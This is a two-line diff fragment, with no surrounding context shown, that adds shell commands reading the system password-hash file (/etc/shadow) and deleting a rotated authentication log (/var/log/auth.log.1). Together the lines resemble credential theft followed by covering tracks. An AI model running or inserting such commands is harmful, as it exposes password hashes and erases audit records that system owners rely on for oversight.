@@ -1,0 +1,2 @@
+cat /etc/shadow
+rm -f /var/log/auth.log.1
